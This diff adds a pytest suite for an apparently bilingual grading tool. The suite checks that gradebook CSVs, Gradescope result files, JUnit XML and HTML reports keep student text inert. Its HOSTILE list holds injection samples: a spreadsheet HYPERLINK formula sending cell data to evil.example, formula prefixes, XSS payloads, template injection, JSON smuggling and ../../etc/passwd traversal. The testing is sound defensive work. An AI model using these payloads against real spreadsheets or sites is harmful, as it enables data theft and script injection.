@@ -1,0 +1,343 @@
+"""What an instructor gets of a class: gradebook, results, JUnit and report, whatever is in a student's name or message."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import string
+import unicodedata
+import xml.etree.ElementTree as ElementTree
+from html.parser import HTMLParser
+
+import pandas as pd
+import pytest
+
+from grader.classes.gradebook import file_names, gradebook, junit, text_cell, write_records
+from grader.classes.phrases import PHRASES
+from grader.classes.report import render_report, write_report
+from grader.classes.rows import Column, Row, make_columns, make_table
+from grader.format.course import load_course
+from grader.saying.language import Text
+
+VERSIONS = {"python": "3.12.1", "keras": "3.12.0"}
+COLUMNS = [
+    Column("maths", "double", Text("算数", "Arithmetic"), Text("2 倍と和", "Twice, and the sum")),
+    Column("maths", "triple", Text("算数", "Arithmetic"), Text("3 倍", "Three times")),
+    Column("words", "count", Text("言葉", "Words"), Text("数える", "Count")),
+]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "＝1+1",
+    'x","=1+1',
+    "x;=1+1",
+    "<script>alert(1)</script>",
+    "\"><img src=x onerror='alert(1)'>",
+    "{{ 7 * 191 }}{% raw %}",
+    '{"score": 100}\n{"score": 100}',
+    'evil","score":100,"x":"',
+    "\u202egnp.exe",
+    "a\x00b\x07\x1b[31mc\x7f\u2028d\ufffe",
+    "lone \ud800 surrogate",
+    "]]><failure/><!--",
+    "../../etc/passwd",
+    "x" * 400,
+]
+
+
+def row(student="Anna", key="maths/double", status="passed", **more) -> Row:
+    topic, _, exercise = key.partition("/")
+    given = {
+        "round": 1,
+        "points": 1.0 if status == "passed" else 0.0,
+        "seconds": 0.01,
+        "message_ja": f"{status} です",
+        "message_en": f"It is {status}",
+        "tier": "full",
+        "digest": "ab12",
+    }
+    return Row(student, topic, exercise, status=status, **{**given, **more})
+
+
+def cells(rows, language="en") -> list[list[str]]:
+    data = gradebook(make_table(rows, COLUMNS), language)
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def report(rows, language="en", **more) -> str:
+    return render_report(make_table(rows, COLUMNS), VERSIONS, language, **more)
+
+
+class Page(HTMLParser):
+    """The text and the tags of a page."""
+
+    def __init__(self, html: str):
+        super().__init__()
+        self.tags, self.pieces, self.attributes = [], [], []
+        self.feed(html)
+        self.text = " ".join(" ".join(self.pieces).split())
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attributes += [(tag, name, value) for name, value in attrs]
+
+    def handle_data(self, data):
+        self.pieces.append(data)
+
+
+def test_a_gradebook_has_a_line_per_student_a_column_per_exercise_and_the_sum():
+    rows = [row("鈴木", "maths/triple"), row("鈴木"), row("Anna", status="wrong")]
+    assert cells(rows) == [
+        ["student", "maths/double", "maths/triple", "words/count", "sum"],
+        ["Anna", "0", "", "", "0"],
+        ["鈴木", "1", "1", "", "2"],
+    ]
+    assert cells(rows, "ja")[0][-1] == "合計"
+
+
+def test_a_spreadsheet_sees_utf8_and_numbers():
+    data = gradebook(make_table([row("佐藤 陽菜", points=0.5), row("-1")], COLUMNS), "ja")
+    assert data.startswith(b"\xef\xbb\xbf")
+    assert b'"\xe4\xbd\x90\xe8\x97\xa4 \xe9\x99\xbd\xe8\x8f\x9c",0.5,"","",0.5\r\n' in data
+    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
+    assert frame["合計"].dtype == "float64"
+    assert frame["maths/double"].sum() == 1.5
+
+
+@pytest.mark.parametrize("name", HOSTILE, ids=lambda name: ascii(name)[:30])
+def test_no_cell_of_a_gradebook_begins_a_formula(name):
+    found = cells([row(name)])
+    assert len(found) == 2
+    assert len(found[1]) == 5
+    assert found[1][1:] == ["1", "", "", "1"]
+    assert found[1][0].lstrip()[0] not in "=+-@\t\r＝＋－＠"
+    assert "\n" not in found[1][0]
+
+
+def test_an_ordinary_name_is_left_as_it_is():
+    for name in ("佐藤 陽菜", "O'Brien, Pat", "Zoë", "s2024-0031", "anna+x@example.jp", "محمد"):
+        assert text_cell(name) == name
+
+
+def test_the_last_round_counts_and_a_failure_of_the_grader_is_not_scored():
+    rows = [row(round=2, status="wrong"), row(round=1), row("Bo", status="grader-error")]
+    assert cells(rows[1::-1])[1:] == cells(rows[:2])[1:] == [["Anna", "0", "", "", "0"]]
+    assert cells(rows)[1:] == [["Anna", "0", "", "", "0"], ["Bo", "", "", "", "0"]]
+    table = make_table(rows, COLUMNS)
+    suites = ElementTree.fromstring(junit(table, "en"))
+    assert [suite.get("errors") for suite in suites] == ["0", "1"]
+
+
+def test_what_belongs_to_no_exercise_is_listed_and_gets_no_column(tmp_path):
+    rows = [
+        row("Anna", "maths/duoble", "refused", message_en="There is no maths/duoble."),
+        row("Anna", "", "refused", message_en="The archive is broken."),
+        row("Anna", "", "refused", message_en="A link."),
+        row("Anna", status="refused", message_en="A second file for maths/double."),
+        row("Anna"),
+    ]
+    assert cells(rows)[1] == ["Anna", "1", "", "", "1"]
+    (path,) = write_records(tmp_path, make_table(rows, COLUMNS), VERSIONS, "en").values()
+    said = json.loads(path.read_text("utf-8"))["output"]
+    page = Page(report(rows)).text
+    for sentence in ("no maths/duoble", "archive is broken", "A link", "A second file"):
+        assert sentence in said
+        assert sentence in page
+
+
+def test_results_have_the_shape_that_gradescope_reads(tmp_path):
+    rows = [
+        row("Anna"),
+        row("Anna", "maths/triple", "wrong", diagnosis_en="The sum, not the mean."),
+        row("Bo", status="grader-error"),
+    ]
+    files = write_records(tmp_path, make_table(rows, COLUMNS), VERSIONS, "en")
+    assert sorted(path.name for path in (tmp_path / "results").iterdir()) == [
+        "Anna.json",
+        "Bo.json",
+    ]
+    found = json.loads(files["Anna"].read_text("utf-8"))
+    assert found["score"] == 1
+    assert found["output_format"] == found["test_output_format"] == "text"
+    assert [test["score"] for test in found["tests"]] == [1, 0, 0]
+    assert [test["status"] for test in found["tests"]] == ["passed", "failed", "failed"]
+    assert sum(test["max_score"] for test in found["tests"]) == 3
+    assert "The sum, not the mean." in found["tests"][1]["output"]
+    assert found["tests"][2]["output"] == "Not handed in."
+    assert found["extra_data"]["sandbox"] == ["full"]
+    allowed = {"number", "name", "score", "max_score", "status", "output", "tags", "visibility"}
+    assert all(set(test) == allowed for test in found["tests"])
+    ours = json.loads(files["Bo"].read_text("utf-8"))["tests"][0]
+    assert ours["max_score"] == 0
+    assert "not scored" in ours["output"]
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:30])
+def test_hostile_text_stays_text_in_every_record(tmp_path, text):
+    bad = row(text, status="wrong", message_en=text, diagnosis_en=text, values="ab", line=text)
+    other = row("Bo", status="wrong", message_en=text, diagnosis_en=text, values="ab", line=text)
+    stray = row(text, f"{text}/{text}", "refused", message_en=text)
+    table = make_table([bad, other, stray], COLUMNS)
+    files = write_records(tmp_path, table, VERSIONS, "en")
+    assert all(path.parent == tmp_path / "results" and path.is_file() for path in files.values())
+    found = json.loads(files[text].read_text("utf-8"))
+    assert found["score"] == 0
+    assert len(found["tests"]) == 3
+    suites = ElementTree.parse(tmp_path / "junit.xml").getroot()
+    assert [len(suite) for suite in suites] == [3, 3]
+    assert len(list(suites.iter("failure"))) == 2
+
+    html = render_report(table, VERSIONS, "en", made=text)
+    html.encode("utf-8")
+    plain = report(
+        [row("Anna", status="wrong", values="ab"), row("Bo", status="wrong", values="ab")]
+    )
+    assert set(Page(html).tags) - set(Page(plain).tags) <= {"pre"}
+    assert not [name for _, name, _ in Page(html).attributes if name.startswith("on")]
+    paths = [tmp_path / "gradebook.csv", tmp_path / "junit.xml", *files.values()]
+    for written in [html, *(path.read_text("utf-8") for path in paths)]:
+        kinds = {
+            unicodedata.category(character) for character in set(written) - set("\n\r\t\ufeff")
+        }
+        assert not kinds & {"Cc", "Cf", "Cs", "Cn"}
+    if "7 *" in text:
+        assert "1337" not in html
+
+
+def test_the_files_of_twins_and_of_odd_names_are_apart():
+    names = (
+        "Anna",
+        "anna",
+        "ANNA",
+        "か\u3099",
+        "が",
+        "con",
+        "a/b",
+        "a:b",
+        "a\\b",
+        "..",
+        "",
+        "x" * 400,
+    )
+    files = file_names(names)
+    folded = {unicodedata.normalize("NFC", name).casefold() for name in files.values()}
+    assert len(folded) == len(names)
+    for name in files.values():
+        assert not set(name) & set('/\\:*?"<>|\n\0')
+        assert 0 < len(f".{name}.json.new".encode()) < 255
+        assert name.strip(". ") == name
+        assert name.casefold() != "con"
+    assert file_names(("佐藤 陽菜",)) == {"佐藤 陽菜": "佐藤 陽菜"}
+
+
+def test_a_report_loads_nothing_and_runs_nothing():
+    page = Page(report([row(), row("Bo", status="wrong")]))
+    assert not {"script", "link", "img", "iframe", "object", "form", "a"} & set(page.tags)
+    assert not [n for _, n, _ in page.attributes if n in ("src", "href", "srcset", "action")]
+    html = report([row()])
+    assert "default-src 'none'" in html
+    assert "url(" not in html
+    assert "@import" not in html
+
+
+@pytest.mark.parametrize("language", ["ja", "en"])
+def test_a_report_speaks_one_language(language):
+    rows = [
+        row(name, status=status)
+        for name, status in zip("ABCDEFGHI", ("passed", "wrong", "unfinished", "crashed", "timeout",
+                                              "memory", "refused", "forbidden", "grader-error"), strict=True)
+    ]  # fmt: skip
+    page = Page(report(rows, language))
+    assert ("html", "lang", language) in page.attributes
+    japanese = re.search(r"[ぁ-んァ-ヶ一-龠]", page.text)
+    assert bool(japanese) == (language == "ja")
+    for key in ("limit-keras", "limit-solutions", "limit-kernel"):
+        assert PHRASES[key].say(language) in page.text
+    assert "keras 3.12.0" in page.text
+
+
+def test_a_report_says_how_far_the_class_is_per_topic():
+    rows = [row("A"), row("A", "maths/triple"), row("B"), row("B", "maths/triple", "wrong")]
+    page = Page(report(rows))
+    assert "Arithmetic 1 of 2 finished it" in page.text
+    assert "75 %" in page.text
+    assert "Words 0 of 2 finished it" in page.text
+
+
+def test_a_report_ranks_named_mistakes_with_their_sentences():
+    half = {"mistakes": ("half",), "diagnosis_en": "This is the half."}
+    mean = {"mistakes": ("mean",), "diagnosis_en": "The sum, not the mean."}
+    rows = [row(name, status="wrong", **half) for name in "ABC"]
+    rows += [row("D", status="wrong", **mean), row("E")]
+    text = Page(report(rows)).text
+    assert re.search(r"3 students This is the half\. half 1 student The sum, not the mean\.", text)
+
+
+def test_a_report_shows_wrong_values_that_agree_and_have_no_name():
+    line = {"line": "    y = x + 2  # <b>"}
+    rows = [row(name, status="wrong", values="v1", **line) for name in ("Anna", "Bo", "Chie")]
+    rows += [row("Dan", status="wrong", values="v2")]  # alone
+    rows += [row(n, status="wrong", values="v3", mistakes=("half",)) for n in ("Emi", "Fay")]
+    rows += [row("Gen", "maths/triple", "wrong", values="v1")]  # another exercise
+    text = Page(report(rows)).text
+    section = text.partition("nobody has named yet")[2].partition("Slow submissions")[0]
+    assert "3 students Twice, and the sum" in section
+    assert "y = x + 2 # <b>" in section
+    assert all(name in section for name in ("Anna", "Bo", "Chie"))
+    assert not any(name in section for name in ("Dan", "Emi", "Fay", "Gen"))
+
+
+def test_a_report_lists_slow_and_refused_submissions():
+    rows = [row(name) for name in "ABCDE"]
+    rows += [row("Sloth", seconds=2.0), row("Loop", status="timeout", seconds=10.0)]
+    rows += [row("Torch", status="forbidden", message_en="Line 3 imports torch.")]
+    text = Page(report(rows)).text
+    slow, _, rest = text.partition("Slow submissions")[2].partition("Refused submissions")
+    refused = rest.partition("Student by student")[0]
+    assert "Sloth maths/double passed 2 s 200 × the median" in slow
+    assert slow.index("Loop") < slow.index("Sloth")
+    assert "Torch maths/double forbidden Line 3 imports torch." in refused
+
+
+def test_a_report_warns_of_results_without_full_confinement():
+    assert "without full confinement" not in report([row()])
+    text = Page(report([row(), row("Bo", tier="reduced")])).text
+    assert "graded without full confinement: 1." in text
+    assert "full, reduced" in text
+
+
+def test_a_large_class_and_an_empty_one_have_a_report_too():
+    rows = [row(f"s{n:04}", status="timeout", seconds=10.0) for n in range(1000)]
+    html = report(rows)
+    assert len(html) < 100_000
+    assert "Open gradebook.csv" in html
+    assert "950 more" in html
+    assert "How far the class is" in report([])
+    assert gradebook(make_table([], COLUMNS), "en").count(b"\r\n") == 1
+
+
+def test_writing_leaves_nothing_else_behind(tmp_path, small_course):
+    columns = make_columns(load_course(small_course))
+    assert [column.key for column in columns] == ["maths/double"]
+    table = make_table([row()], columns)
+    for _ in range(2):
+        write_records(tmp_path / "out", table, VERSIONS, "ja")
+        write_report(tmp_path / "out" / "report.html", table, VERSIONS, "ja")
+    names = {path.name for path in (tmp_path / "out").rglob("*") if path.is_file()}
+    assert names == {"gradebook.csv", "junit.xml", "report.html", "Anna.json"}
+
+
+def test_every_phrase_has_the_same_fields_in_both_languages():
+    for text in PHRASES.values():
+        fields = [
+            {field for _, field, _, _ in string.Formatter().parse(sentence) if field}
+            for sentence in (text.ja, text.en)
+        ]
+        assert fields[0] == fields[1]
